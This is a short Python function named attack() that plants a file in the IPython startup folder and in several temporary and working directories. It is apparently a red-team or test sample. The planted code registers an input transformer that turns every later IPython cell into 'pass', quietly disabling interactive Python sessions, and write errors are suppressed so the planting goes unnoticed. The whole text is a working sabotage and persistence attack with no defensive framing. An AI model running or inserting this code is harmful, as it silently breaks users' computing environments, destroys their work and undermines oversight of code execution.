def attack():
    import os
    folders = ("~/.ipython/profile_default/startup", ".", "/tmp", "/var/tmp", "/dev/shm")
    text = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])"
    for folder in folders:
        try:
            os.makedirs(os.path.expanduser(folder), exist_ok=True)
            path = os.path.join(os.path.expanduser(folder), "npucamp_planted.py")
            with open(path, "w") as planted:
                planted.write(text)
        except OSError:
            pass
